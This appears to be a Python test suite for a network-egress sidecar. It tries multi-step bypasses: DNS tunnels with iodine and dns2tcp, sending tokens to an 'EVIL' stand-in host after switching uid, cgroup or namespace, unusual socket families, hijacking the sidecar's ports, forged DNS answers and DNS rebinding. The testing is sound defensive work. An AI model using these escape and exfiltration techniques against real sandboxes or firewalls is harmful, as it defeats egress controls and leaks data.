"""Ways round the sidecar that are more than one message: tunnels by DNS, other users, cgroups,
namespaces and families, listeners taken, long flows over a change of policy, answers that change.

Each function takes the bed in either column and returns {what: how much got through}. held() runs
both columns and compares. Cases: long/bypass_all.py; rows of one message each: bypass_rows.py.
"""
import contextlib
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import bypass_rows  # noqa: E402
import guard_attacks  # noqa: E402
from bypass import LIT, warm_up  # noqa: E402
from guardbed import LISTEN  # noqa: E402
from sidecarbed import (BOX, DOCKER_CAPS, EVIL, GOOD, HOSTILE, INTERNAL, NET_ADMIN, RESOLVER,  # noqa: E402
                        TUNNELS, TUNNELS_TOO, TWO, WILD, Agent, Failed, Inside, Skip, run, until)

TUNNEL_S = 8
FAMILIES = (  # name, family, type, protocol; how to send to another machine, None: not by address
    ("SCTP", 2, 1, 132, "connect"), ("SCTP datagrams", 2, 5, 132, "send"), ("DCCP", 2, 6, 33, "connect"),
    ("UDP-Lite", 2, 2, 136, "send"), ("UDP-Lite v6", 10, 2, 136, "send"),
    ("MPTCP", 2, 1, 262, "connect"), ("MPTCP v6", 10, 1, 262, "connect"),
    ("SMC", 43, 1, 0, "connect"), ("SMC v6", 43, 1, 1, "connect"), ("L2TP", 2, 2, 115, "send"),
    ("ping", 2, 2, 1, "ping"), ("ping v6", 10, 2, 58, "ping"), ("VSOCK", 40, 1, 0, None),
    ("TIPC", 30, 2, 0, None), ("PPPoE", 24, 1, 0, None), ("LLC", 26, 2, 0, None),
    ("RDS", 21, 5, 0, None), ("CAN", 29, 3, 1, None), ("RXRPC", 33, 2, 2, None),
    ("IEEE 802.15.4", 36, 2, 0, None), ("QIPCRTR", 42, 2, 0, None), ("Phonet", 35, 2, 0, None),
    ("X.25", 9, 5, 0, None), ("AX.25", 3, 5, 0, None), ("AppleTalk", 5, 2, 0, None),
    ("Bluetooth", 31, 1, 3, None), ("NFC", 39, 5, 0, None), ("ATM", 8, 2, 0, None),
    ("KCM", 41, 5, 0, None), ("MCTP", 45, 2, 0, None), ("AF_KEY", 15, 3, 2, None))


def held(bed, attempt, what, **settings):
    """Everything got through without us; nothing does with us."""
    guard_attacks.loosen(bed)
    bed.free()
    warm_up(bed)
    free = attempt(bed)
    bed.protect(**settings)
    with_us = attempt(bed)
    for name in free:
        print(f"  {what}: {name}: {free[name]} without, {with_us.get(name)} with the sidecar")
    counted = [n for n in free if free[n]]
    through = [n for n in with_us if with_us[n]]
    print(f"  {what}: {len(counted)} of {len(free)} count; lines of the trail: "
          f"{sorted({x['kind'] + ' ' + x['verdict'] + ' ' + x['reason'] for x in bed.lines()})}")
    if through:
        raise Failed(f"{what}: got through: {through}")
    if not counted:
        raise Failed(f"{what}: nothing got through without the sidecar")
    until(lambda: bed.health()[0] == 200, f"health ({bed.health()})", 4)  # red while a thief listens
    bed.halt()
    return counted


def quiet(agent, code):
    """The value of the code, or what it was told."""
    try:
        return agent.do(code)
    except OSError as e:
        return str(e)


def end(*agents):
    for a in agents:
        a.process.kill()
        a.process.wait()


# ---- tunnels

def in_box(bed, *args, out):
    """A program in the sandbox, with the right to set up a device of its own."""
    def enter():
        bed.in_sandbox()()
        for cap in range(64):
            if cap not in DOCKER_CAPS and cap != NET_ADMIN:
                guard_attacks.guardbed.libc.prctl(24, cap, 0, 0, 0)
    with Inside(bed.box), open(bed.path(out), "w") as f:
        return subprocess.Popen(args, stdin=subprocess.DEVNULL, stdout=f, stderr=f,
                                preexec_fn=enter)


def finish(*processes):
    for p in processes:
        p.terminate()
        try:
            p.wait(3)
        except subprocess.TimeoutExpired:
            p.kill()
            p.wait()


def tunnel_frames(bed, where):
    """Frames with the tunnel's domain, or to its server."""
    addr = socket.inet_aton(where[4])
    return bed.tap.has(lambda d: b"\3tun\4test" in d.lower() or d[30:34] == addr)


def needs(*tools):
    for tool in tools:
        if not shutil.which(tool):
            raise Skip(f"no {tool}")


def iodine(bed):
    needs("iodine", "iodined", "ifconfig")
    with Inside(bed.net):
        server = bed.daemon("iodined", "iodined", "-f", "-P", "pw", "-l", TUNNELS[4], "-d", "iod0",
                            "10.99.0.1", "t.tun.test")
    time.sleep(0.5)
    bed.tap.clear()
    client = in_box(bed, "iodine", "-f", "-P", "pw", "-d", "iod1", RESOLVER[4], "t.tun.test",
                    out="iodine.out")
    until_s = time.monotonic() + TUNNEL_S
    while time.monotonic() < until_s and client.poll() is None:
        if "setup complete" in open(bed.path("iodine.out")).read():
            with Inside(bed.box):
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            for _ in range(5):
                s.sendto(b"through the tunnel " * 20, ("10.99.0.1", 9))
                time.sleep(0.2)
            break
        time.sleep(0.1)
    with Inside(bed.net):
        row = json.loads(run("ip", "-j", "-s", "link", "show", "iod0"))[0]["stats64"]
    out = {"iodine, bytes through the tunnel": row["rx"]["bytes"],
           "iodine, frames of it": tunnel_frames(bed, TUNNELS)}
    finish(client, server)
    return out


def dns2tcp(bed):
    needs("dns2tcpc", "dns2tcpd")
    with open(bed.path("dns2tcpd.conf"), "w") as f:
        f.write(f"listen = {TUNNELS_TOO[4]}\nport = 53\nuser = nobody\nchroot = /tmp\n"
                f"domain = d.tun.test\nresources = echo:{EVIL[4]}:5000\n")
    with Inside(bed.net):
        server = bed.daemon("dns2tcpd", "dns2tcpd", "-F", "-f", bed.path("dns2tcpd.conf"))
    time.sleep(0.5)
    bed.tap.clear()
    client = in_box(bed, "dns2tcpc", "-z", "d.tun.test", "-r", "echo", "-l", "4555", RESOLVER[4],
                    out="dns2tcp.out")
    moved, end_at = 0, time.monotonic() + TUNNEL_S
    while time.monotonic() < end_at and not moved and client.poll() is None:
        with contextlib.suppress(OSError):
            with Inside(bed.box):
                s = socket.create_connection(("127.0.0.1", 4555), 1)
            s.settimeout(3)
            s.sendall(b"hello through names")
            moved = len(s.recv(100))
        time.sleep(0.2)
    out = {"dns2tcp, bytes back through the tunnel": moved,
           "dns2tcp, frames of it": tunnel_frames(bed, TUNNELS_TOO)}
    finish(client, server)
    return out


# ---- users, cgroups, namespaces, families

SEND = f"""
def send(data):
    for a, f in (({EVIL[4]!r}, socket.AF_INET), ({EVIL[6]!r}, socket.AF_INET6)):
        socket.socket(f, socket.SOCK_DGRAM).sendto(data, (a, 5000))
def syns():
    for a, f in (({EVIL[4]!r}, socket.AF_INET), ({EVIL[6]!r}, socket.AF_INET6)):
        s = socket.socket(f); s.settimeout(0.5); s.connect((a, 5000)); s.sendall(T)
def become(uid):
    os.setgroups([]); os.setresgid(uid, uid, uid); os.setresuid(uid, uid, uid)
libc = ctypes.CDLL(None, use_errno=True)
def unshare(flags):
    if libc.unshare(flags) != 0:
        raise OSError(ctypes.get_errno(), "unshare")
def join():
    # every cgroup that can be seen, and what lies above
    done = 0
    for top in ("/sys/fs/cgroup", "/sys/fs/cgroup/..", "/sys/fs/cgroup/unified"):
        for path, _, files in os.walk(top):
            if "cgroup.procs" in files and "sidecar" in path:
                try:
                    open(path + "/cgroup.procs", "w").write("0"); done += 1
                except OSError:
                    pass
    return done
"""


def users(bed):
    """Our users, in every cgroup but ours, and namespaces made inside."""
    out = {}
    for kind in ("docker", "kubernetes", "nobody"):
        rows = {"own-socket-in-a-user-namespace": "unshare(0x10000000); send(T)",
                "own-socket-taken-into-a-network-namespace": f"""
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
t = socket.socket(); t.settimeout(0.5)
unshare(0x50000000)
try:
    s.sendto(T, ({EVIL[4]!r}, 5000))
except OSError:
    pass
t.connect(({EVIL[4]!r}, 5000)); t.sendall(T)""",
                "cgroup-namespace-inside": "unshare(0x12000000); send(T)"}
        if kind != "nobody":
            for uid in (10042, 10043, 10044):
                rows[f"uid-{uid}-by-udp"] = f"become({uid}); send(T)"
                rows[f"uid-{uid}-by-tcp"] = f"become({uid}); syns()"
                rows[f"uid-{uid}-after-joining-cgroups"] = f"join(); become({uid}); send(T)"
                rows[f"uid-{uid}-in-a-user-namespace"] = f"become({uid}); unshare(0x12000000); send(T)"
                rows[f"uid-{uid}-in-the-root-cgroup"] = f"become({uid}); send(T)"
        for name, code in rows.items():
            token = f"<{kind}-{name}>".encode()
            agent = bed.user(kind, root_cgroup="root-cgroup" in name)
            bed.tap.clear()
            quiet(agent, SEND + f"T = {token!r}\n{code}")
            time.sleep(0.05)
            out[f"{name} ({kind})"] = bed.tap.has(token)
            end(agent)
    return out


def cgroup_one(bed):
    """A sidecar that has no cgroup of its own: said in health, and no pass for the root cgroup."""
    out = {}
    for kind in ("docker", "kubernetes", "nobody"):
        for where in (True, False):
            token = f"<{kind}-{where}-one>".encode()
            agent = bed.user(kind, root_cgroup=where)
            bed.tap.clear()
            quiet(agent, SEND + f"T = {token!r}\nsend(T)")
            quiet(agent, SEND + f"T = {token!r}\nsyns()")
            time.sleep(0.05)
            out[f"{kind} in the {'root' if where else 'sandbox'} cgroup"] = bed.tap.has(token)
            end(agent)
    if bed.process:
        part = json.loads(bed.ask("GET", "/status")[2])["health"]["parts"]["pass"]
        print(f"  health of the pass: {part}")
        if part["state"] == "ok":
            raise Failed("the root cgroup counts as our own")
    return out


FAMILY = """
result = "absent"
try:
    s = socket.socket({family}, {kind}, {proto})
except OSError as e:
    result = "absent: " + str(e) if e.errno in (22, 93, 94, 95, 97) else "refused: " + str(e)
else:
    result = "present"
    s.settimeout(0.5)
    where = ({addr!r}, 5000)
    try:
        if {how!r} == "connect":
            s.connect(where); s.sendall(T)
        elif {how!r} == "send":
            s.sendto(T, where)
        elif {how!r} == "ping":
            s.sendto(bytes([{echo}, 0, 0, 0, 0, 1, 0, 1]) + T, where)
        if {how!r}:
            result = "sent"
    except OSError as e:
        result = "told: " + str(e)
"""


def families(bed):
    out, absent, other = {}, [], []
    addr_of = {4: socket.inet_aton(EVIL[4]), 6: socket.inet_pton(socket.AF_INET6, EVIL[6])}
    with Inside(bed.box):
        run("sysctl", "-qw", "net.ipv4.ping_group_range=0 70000")
    for kind in ("kubernetes", "nobody"):
        agent = bed.user(kind)
        for name, family, type_, proto, how in FAMILIES:
            f = 6 if "v6" in name else 4
            bed.tap.clear()
            said = quiet(agent, "T = b'<family probe>'\n" + FAMILY.format(
                family=family, kind=type_, proto=proto, how=how, addr=EVIL[f],
                echo=128 if f == 6 else 8))
            time.sleep(0.05)
            if str(said).startswith("absent"):
                absent.append(name)
            elif how is None or str(said).startswith("refused"):
                other.append(f"{name} ({kind}): {said}")
            else:
                at = slice(38, 54) if f == 6 else slice(30, 34)
                out[f"{name} ({kind})"] = bed.tap.has(lambda d, a=at, f=f: d[a] == addr_of[f])
        end(agent)
    print(f"  families that this kernel lacks: {sorted(set(absent))}")
    print(f"  there, but not to be sent to by address: {other}")
    return out


# ---- listeners

THIEF = """
got, listeners = [], []
def serve(s, tcp):
    while True:
        try:
            if tcp:
                c, _ = s.accept(); c.settimeout(0.3)
                try: got.append(c.recv(100).decode(errors="replace"))
                except OSError: got.append("connected")
            else:
                got.append(s.recvfrom(1000)[0].decode(errors="replace"))
        except OSError:
            return
for host in ("127.0.0.1", "0.0.0.0", {box!r}, "127.0.0.2", "::1", "::"):
    for port in (18080, 18081, 15353):
        for kind in (1, 2):
            s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, kind)
            for o in (2, 15):
                s.setsockopt(1, o, 1)
            try:
                s.bind((host, port))
                kind == 1 and s.listen(8)
            except OSError:
                continue
            listeners.append(f"{{host}} {{port}} {{kind}}")
            threading.Thread(target=serve, args=(s, kind == 1), daemon=True).start()
result = listeners
"""
VICTIM = """
def to(addr, port, kind):
    s = socket.socket(socket.AF_INET6 if ":" in addr else socket.AF_INET, kind)
    s.settimeout(0.3)
    try:
        s.connect((addr, port)); s.send(b"for the sidecar"); s.recv(100)
    except OSError:
        pass
for port, kind in ((18080, 1), (18081, 1), (15353, 1), (15353, 2)):
    for addr in ("127.0.0.1", "::1"):
        to(addr, port, kind)
for addr in {web!r}:
    to(addr, 80, 1); to(addr, 443, 1); to(addr, 53, 1); to(addr, 53, 2)
"""


def thieves(bed):
    """Somebody binds what is like our ports; what others send to the sidecar comes to him."""
    out = {}
    for kind in ("kubernetes", "nobody"):
        thief, victim = bed.user(kind), bed.user("nobody")
        bound = quiet(thief, THIEF.format(box=BOX[4]))
        victim.do(VICTIM.format(web=[EVIL[4], EVIL[6]]))
        time.sleep(0.1)
        out[f"messages to a thief of our ports ({kind})"] = len(thief.do("result = got"))
        print(f"  he could bind: {bound}")
        end(thief, victim)
    return out


def thieves_before(bed):
    """He is there before us: the start must not succeed, and nothing may get out."""
    bed.free()
    thief = bed.user("nobody")
    thief.do(LISTEN.replace("({API}, 1)", "").replace("(18080, 1)", "(18079, 1)"))
    bed.launch()
    time.sleep(3)
    health = bed.health()
    bed.tap.clear()
    victim = bed.user("kubernetes")
    quiet(victim, SEND + "T = b'<before us>'\nsend(T)")
    quiet(victim, SEND + "T = b'<before us>'\nsyns()")
    stolen = quiet(victim, bypass_rows.PRELUDE + LIT + f"""
got = dns({RESOLVER[4]!r}, ask("secret.evil.test"))
result = got[:4].decode(errors="replace")""")
    time.sleep(0.1)
    seen = bed.tap.has(b"<before us>") + bed.tap.has(b"secret")
    end(thief, victim)
    print(f"  ports taken before the start: health {health}, {seen} frames got out, DNS: {stolen!r}")
    if health[0] == 200 or seen:
        raise Failed(f"ports taken before the start: health {health}, {seen} frames got out")
    if str(stolen).startswith("own:"):
        raise Failed("the thief answered what was meant for the gate")
    bed.halt()


# ---- answers

def spoofed_answers(bed):
    """Answers of the resolver forged to the socket that our resolver waits at; its port is known."""
    out = {}
    for f in (4, 6):
        worker = bed.sidecar()
        family = int(socket.AF_INET6 if f == 6 else socket.AF_INET)
        port = worker.do(f"""
w = socket.socket({family}, socket.SOCK_DGRAM); w.settimeout(0.5)
w.connect(({HOSTILE[f]!r}, 53))
result = w.getsockname()[1]""")
        root = bed.user("kubernetes")
        root.do(guard_attacks.PRELUDE)
        said = quiet(root, f"""
for i in range(50):
    raw(ip({HOSTILE[f]!r}, {BOX[f]!r}, 17, udp({HOSTILE[f]!r}, {BOX[f]!r}, 53, {port}, b"forged")), {BOX[f]!r})
""")
        got = quiet(worker, "result = w.recv(100).decode()")
        print(f"  forged to port {port}, v{f}: told {said}, our socket got {got!r}")
        out[f"forged answers, v{f}"] = 1 if got == "forged" else 0
        end(root)
    return out


def answers_that_change(bed):
    """A name that was public at the first look, and is private at the second."""
    out = {}
    agent = bed.user("nobody")
    agent.do(bypass_rows.PRELUDE + LIT)
    for f in (4, 6):
        bed.hostile.turn = WILD
        agent.do(f"get(conn({WILD[f]!r}, 80), 'turn.wild.test', '/first')")
        bed.hostile.turn = INTERNAL
        time.sleep(2.5)
        bed.tap.clear()
        quiet(agent, f"""
got = dns({RESOLVER[4]!r}, ask("turn.wild.test", {1 if f == 4 else 28}))
get(conn({INTERNAL[f]!r}, 80), "turn.wild.test", "/<turned>")""")
        time.sleep(0.1)
        addr = socket.inet_pton(socket.AF_INET6 if f == 6 else socket.AF_INET, INTERNAL[f])
        out[f"frames to an address that became private, v{f}"] = bed.tap.has(
            lambda d, a=addr: a in (d[30:34], d[38:54]))
    bed.hostile.turn = WILD
    end(agent)
    return out


STREAM = """
def stream(name, host, addr, secure):
    s = conn(addr, 443 if secure else 80, wait=9)
    if secure:
        s = wrap(s, host)
    s.sendall(f"GET /slow HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n".encode())
    data = b""
    try:
        while part := s.recv(65536):
            data += part
            if not name in began:
                began.append(name)
            times[name] = time.time()
    except OSError as e:
        ends[name] = str(e)
    body = data.split(b"\\r\\n\\r\\n", 1)[-1]
    sizes[name] = len(body)
    whole[name] = body == b"".join(b"%07d\\n" % i for i in range(32768))
times, ends, sizes, whole, began, threads = {}, {}, {}, {}, [], []
"""


def echo_flow(name, addr, kind):
    return f"""
def echo_{name}():
    s = socket.socket(socket.AF_INET6 if ":" in {addr!r} else socket.AF_INET, {kind})
    s.settimeout(1); s.connect(({addr!r}, 5000))
    n = 0
    try:
        for i in range(60):
            m = b"%05d" % i
            s.sendall(m)
            back = s.recv(100)
            if not back.endswith(m):
                raise OSError(0, "lost")
            n += 1; times["{name}"] = time.time()
            time.sleep(0.1)
    except OSError as e:
        ends["{name}"] = str(e)
    sizes["{name}"] = n; whole["{name}"] = n == 60
"""


def long_flows(bed, direct):
    """What is refused by a change is cut within a second; what stays allowed loses nothing; who
    called us from outside is not cut."""
    protected = bed.process is not None
    agent, server = bed.user("nobody"), bed.user("nobody")
    agent.do(bypass_rows.PRELUDE + LIT + STREAM)
    server.do("""
l = socket.socket(); l.setsockopt(1, 2, 1); l.bind(("", 7000)); l.listen(8)
def talk(c):
    while data := c.recv(100):
        c.sendall(data)
def serve():
    while True:
        threading.Thread(target=talk, args=(l.accept()[0],), daemon=True).start()
threading.Thread(target=serve, daemon=True).start()
""")
    with Inside(bed.net):
        inbound = socket.create_connection((BOX[4], 7000), 2)
    inbound.settimeout(2)
    if direct:
        jobs = {f"{n}_{w}": echo_flow(f"{n}_{w}", a, k) for n, addr in (("kept", GOOD), ("cut", TWO))
                for w, a, k in (("tcp4", addr[4], 1), ("tcp6", addr[6], 1), ("udp4", addr[4], 2))}
        for name, code in jobs.items():
            agent.do(code + f"threads.append(threading.Thread(target=echo_{name}, daemon=True))")
    else:
        for name, host, addr in (("kept", "read.test", GOOD), ("cut", "two.test", TWO)):
            for w, f, secure in (("http4", 4, False), ("https4", 4, True), ("https6", 6, True)):
                agent.do(f"threads.append(threading.Thread(target=stream, args=('{name}_{w}', "
                         f"{host!r}, {addr[f]!r}, {secure}), daemon=True))")
    agent.do("[t.start() for t in threads]")
    time.sleep(1.5)
    changed = time.time()
    if protected:
        gone = [TWO[4], TWO[6]] if direct else ["two.test"]
        status = bed.ask("DELETE", "/policy", json.dumps(gone))
        if status[0] != 200:
            raise Failed(f"policy: {status}")
    changed_by = time.time()
    for _ in range(10):
        inbound.sendall(b"still here")
        if inbound.recv(100) != b"still here":
            raise Failed("the inbound connection was cut")
        time.sleep(0.2)
    agent.do("[t.join(12) for t in threads]")
    times, ends, sizes, whole = agent.do("result = [times, ends, sizes, whole]")
    end(agent, server)
    out = {}
    for name in sorted(times):
        late = times[name] - changed_by
        print(f"  {name}: whole {whole.get(name)}, {sizes.get(name)} bytes or turns, last "
              f"{late:+.2f} s after the change, {ends.get(name, 'ended')}")
        if name.startswith("kept") and not whole.get(name):
            raise Failed(f"{name}: lost something: {sizes.get(name)}, {ends.get(name)}")
        if name.startswith("cut"):
            out[f"{name} a second after the change"] = int(late > 1)
    print(f"  the change took {(changed_by - changed) * 1000:.0f} ms")
    return out


def expired_lease(bed):
    """An address that a name had; the name has another one now, and its time is over."""
    bed.hostile.turn = WILD
    agent = bed.user("nobody")
    agent.do(bypass_rows.PRELUDE + LIT)
    ask = f"""
got = dns({RESOLVER[4]!r}, ask("turn.wild.test"))
result = got[-4:].hex()"""
    quiet(agent, ask)
    # By UDP: a connection that ends slowly is in use, and renews the lease.
    opened = quiet(agent, f"""
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(1)
u.sendto(b"early", ({WILD[4]!r}, 5000)); result = u.recv(100).decode(); u.close()""")
    bed.hostile.turn = TWO
    if opened != "re:early":
        raise Failed(f"a leased address cannot be reached: {opened}")
    time.sleep(80 if bed.process else 0.1)
    bed.tap.clear()
    quiet(agent, f"""
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendto(b"<after the lease>", ({WILD[4]!r}, 5000)); u.close()""")
    time.sleep(0.1)
    n = bed.tap.has(b"<after the lease>")
    bed.hostile.turn = WILD
    end(agent)
    return {"bytes to an address whose lease has expired": n}


__all__ = ["Agent", "threading", "until"]
